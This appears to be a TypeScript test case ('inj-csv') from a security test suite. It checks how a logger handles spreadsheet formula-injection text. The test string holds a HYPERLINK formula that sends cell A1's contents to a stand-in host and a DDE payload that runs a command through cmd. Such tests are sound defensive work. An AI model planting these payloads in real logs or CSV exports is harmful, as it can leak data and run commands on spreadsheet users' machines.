import { defineAttack, mainOf } from '../attack.ts';
import { loggedOnce } from '../logged-once.ts';

const TEXT =
  '=HYPERLINK("https://example.test/?"&A1,"ok"),+1+1,-1,@SUM(A1),"=1+1"\t=cmd|\' /C calc\'!A0\r\n=1';

export default defineAttack({
  name: 'inj-csv',
  family: 'injection',
  tries: 'Logs cells that a spreadsheet would take for formulas.',
  files: mainOf(`
  const text = ${JSON.stringify(TEXT)};
  host.log('warn', text, { text, [text]: text });
  return { said: text };
`),
  expect: { ending: 'returned', verdict: 'fail', value: { said: TEXT }, check: loggedOnce(TEXT) },
});
